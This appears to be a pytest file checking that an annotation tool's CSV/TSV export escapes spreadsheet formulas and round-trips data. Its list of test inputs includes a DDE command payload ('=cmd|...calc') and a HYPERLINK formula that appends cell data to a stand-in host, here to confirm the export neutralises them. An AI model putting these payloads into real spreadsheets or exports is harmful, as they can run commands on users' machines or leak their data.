"""Rows as tables: what spreadsheets and programs make of the cells."""

import csv
import io
import json

import duckdb
import pandas
import pytest
from hypothesis import given
from hypothesis import strategies as st

from annotator.formats.catalogue import FORMATS
from annotator.formats.delimited import plain
from annotator.schemas_export import RECORDS, Shape
from annotator.schemas_manifest import columns
from tests.written import TEXTS, back, demo, files, held, put, wrong

CSV, TSV = FORMATS["csv"], FORMATS["tsv"]
NUMBERS = {"integer": "BIGINT", "number": "DOUBLE", "boolean": "BOOLEAN"}
FORMULAS = (
    "=1+1",
    "+31 20 555 0100",
    "-2+3",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://northport.example?x="&A1,"open")',
    "=cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    '"=1',
    "'=1",
    "“=1",
    "\u200b=1",
    "\ufeff=1",
    "\u00a0-1",
    "\x00=1",
    "＝1+1",
    "＠x",
    "- a dash in front of a line",
)
PLAIN = (
    "Ines Valdor said so.",
    "4.5 %",
    "a=b",
    "no-one",
    "“We left,” she said.",
    "(=1)",
)


def table(made, shape=Shape.SENTENCES, form=CSV, delimiter=","):
    """Answer the headings and the cells that a program finds in a table."""
    (content,) = files(form, made).values()
    text = io.StringIO(content.decode("utf-8-sig"), newline="")
    return list(csv.reader(text, delimiter=delimiter))


def with_text(*texts):
    """Answer rows whose sentences are these texts."""
    row = next(demo(Shape.SENTENCES).rows(Shape.SENTENCES))
    return [{**row, "text": text} for text in texts]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_is_a_text(text):
    made = held(Shape.SENTENCES, with_text(text))
    heading, cells = table(made)
    assert cells[heading.index("text")] == f"'{text}"
    (content,) = files(CSV, made).values()
    assert back(CSV, content, Shape.SENTENCES)[0]["text"] == text


@pytest.mark.parametrize("text", PLAIN)
def test_any_other_text_is_left_as_it_is(text):
    heading, cells = table(held(Shape.SENTENCES, with_text(text)))
    assert cells[heading.index("text")] == text


@given(TEXTS)
def test_one_apostrophe_less_is_the_text_itself(text):
    assert plain(text).removeprefix("'") == text
    assert plain(text) not in ("", "null")
    assert plain(text).lstrip('"“„«‘ \t\r\n\x0b\x0c\u200b\ufeff')[:1] not in {
        *"=+-@＝＋－＠"
    } - {""}


@given(st.lists(TEXTS, min_size=1, max_size=4))
def test_texts_of_any_kind_come_back_from_both_tables(texts):
    rows = with_text(*texts)
    for form in (CSV, TSV):
        (content,) = files(form, held(Shape.SENTENCES, rows)).values()
        assert back(form, content, Shape.SENTENCES) == rows


def test_null_is_an_empty_cell_and_an_empty_text_an_apostrophe():
    row = with_text("x")[0]
    rows = [{**row, "rationale": value} for value in (None, "", "'", "null", "NULL")]
    heading, *cells = table(held(Shape.SENTENCES, rows))
    at = heading.index("rationale")
    assert [cell[at] for cell in cells] == ["", "'", "''", "'null", "NULL"]


def test_a_record_that_is_there_but_holds_nothing_is_told_from_none():
    nobody = dict.fromkeys(
        ("surface", "start", "end", "doc_start", "doc_end", "canonical", "type")
    )
    rows = [{**row, "speaker": who} for who in (None, nobody) for row in with_text("x")]
    (content,) = files(CSV, held(Shape.SENTENCES, rows)).values()
    assert [row["speaker"] for row in back(CSV, content, Shape.SENTENCES)] == [
        None,
        nobody,
    ]


def test_columns_stand_in_the_order_of_the_schema():
    heading = table(demo(Shape.SENTENCES))[0]
    tops = list(dict.fromkeys(name.partition(".")[0] for name in heading))
    assert tops == [column.name for column in columns(RECORDS[Shape.SENTENCES])]
    assert "speaker.canonical" in heading and "source.title" in heading


def test_spreadsheets_are_told_that_it_is_utf_8_and_programs_need_no_mark():
    (for_people,) = files(CSV, demo(Shape.LABELS)).values()
    (for_programs,) = files(TSV, demo(Shape.LABELS)).values()
    assert for_people.startswith(b"\xef\xbb\xbfschema_version,")
    assert for_programs.startswith(b"schema_version\t")


@pytest.mark.parametrize("form", [CSV, TSV], ids=["csv", "tsv"])
@pytest.mark.parametrize("shape", [Shape.SENTENCES, Shape.LABELS])
def test_pandas_and_duckdb_find_the_rows_and_their_types(tmp_path, form, shape):
    put(tmp_path, files(form, demo(shape)))
    path = tmp_path / f"{shape}.{form.name}"
    rows = list(demo(shape).rows(shape))
    delimiter = "," if form is CSV else "\t"
    frame = pandas.read_csv(
        path,
        sep=delimiter,
        keep_default_na=False,
        na_values=[""],
        dtype={"doc_id": str},
    )
    assert list(frame["text"].str.removeprefix("'")) == [row["text"] for row in rows]
    assert list(frame["source.title"]) == [row["source"]["title"] for row in rows]
    assert frame["doc_start"].dtype == "int64"
    if shape == Shape.SENTENCES:
        assert frame["gold"].dtype == "bool"
        found = frame["annotations"].map(json.loads)
        assert list(found) == [row["annotations"] for row in rows]
    guessed = duckdb.sql(f"describe select * from read_csv('{path}')").fetchall()  # noqa: S608
    types = {name: kind for name, kind, *_ in guessed}
    for column in columns(RECORDS[shape]):
        there = any(row[column.name] is not None for row in rows)
        if column.type in NUMBERS and not column.many and there:
            assert types[column.name] == NUMBERS[column.type], column.name
    texts = duckdb.sql(f"select text from read_csv('{path}')").fetchall()  # noqa: S608
    assert [text.removeprefix("'") for (text,) in texts] == [r["text"] for r in rows]


@pytest.mark.parametrize(
    "was, becomes, problem",
    [
        (b"schema_version,", b"", "schema_version: The column is missing"),
        (b"doc_id,", b"doc_id,doc_id,", "doc_id: The column is twice in the headings"),
        (b"doc_id,", b"doc_id,note,", "“note” is no column of an export. Take it out."),
        (b",true,", b",yes,", "line 1, gold: “yes” is not true or false."),
        (b",[],", b",none,", "tied: “none” is not a list as JSON."),
        (b"Gerda left.", b'"Gerda" left.', "The quotation marks do not fit"),
        (b",0,0,", b",0,0.5,", "paragraph_index: “0.5” is not a whole number."),
        (b",0,0,", b",0,1e99999,", "paragraph_index: “1e99999” is not a whole number."),
        (b",0,0,", b",0,", "line 1: The row has 51 cells under 52 headings."),
        (b"Gerda", b"Gerd\xff", "line 1, text: The cell is not UTF-8."),
    ],
)
def test_what_is_wrong_is_said_with_its_row_and_column(was, becomes, problem):
    made = held(Shape.SENTENCES, list(demo(Shape.SENTENCES).rows(Shape.SENTENCES))[:1])
    row = {
        **next(iter(made.rows(Shape.SENTENCES))),
        "gold": True,
        "text": "Gerda left.",
    }
    (content,) = files(CSV, held(Shape.SENTENCES, [row])).values()
    assert was in content
    found = wrong(CSV, content.replace(was, becomes, 1), Shape.SENTENCES)
    assert any(problem in one for one in found), found


def test_columns_that_changed_places_are_read_all_the_same():
    made = held(Shape.LABELS, list(demo(Shape.LABELS).rows(Shape.LABELS))[:2])
    rows = [list(reversed(cells)) for cells in table(made, Shape.LABELS)]
    text = io.StringIO()
    csv.writer(text, lineterminator="\n").writerows(rows)
    found = back(CSV, text.getvalue().encode(), Shape.LABELS)
    assert found == list(made.rows(Shape.LABELS))
    assert list(found[0]) == list(RECORDS[Shape.LABELS]().fields)


def test_an_empty_file_has_no_headings():
    assert wrong(CSV, b"", Shape.LABELS) == [
        "line 1: The file has no headings. Export it anew."
    ]
